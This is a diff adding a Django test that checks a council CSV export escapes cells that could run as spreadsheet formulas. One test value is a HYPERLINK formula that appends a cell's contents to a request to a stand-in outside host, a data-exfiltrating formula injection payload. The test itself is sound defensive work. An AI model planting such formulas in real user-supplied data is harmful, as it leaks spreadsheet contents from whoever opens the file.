@@ -74,3 +74,26 @@ def test_council_pages_are_for_council_staff_only(world: World) -> None:
         assert client.login(username=name, password=PASSWORD)
         assert client.get(reverse("council:dashboard")).status_code == 403
         assert client.get(reverse("council:export_csv")).status_code == 403
+
+
+def test_csv_cells_that_could_run_as_formulas_are_neutralised(world: World, rich_case: Case) -> None:
+    """Names typed by users reach the council's Excel: a leading = + - @ is prefixed with '."""
+    rich_case.company.name = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    rich_case.company.save()
+    rich_case.adviser_firm.name = "@SUM(A1)"
+    rich_case.adviser_firm.save()
+    main = next(cb.bank for cb in rich_case.banks.all() if cb.is_main)
+    main.name = "-2+3"
+    main.save()
+    client = Client()
+    assert client.login(username="council_osaka", password=PASSWORD)
+    raw = client.get(reverse("council:export_csv")).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw)))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["事業者"] == "'" + rich_case.company.name
+    assert row["認定支援機関"] == "'@SUM(A1)"
+    assert row["メイン金融機関"] == "'-2+3"
+    # numbers stay numbers, dates stay dates
+    assert row["補助額（申請済）"] == "1700000" and row["期限超過の件数"].isdigit()
+    assert row["相談日"] == rich_case.consulted_on.isoformat()
+    assert not any(cell[:1] in "=+-@\t\r" for r in rows for cell in r)
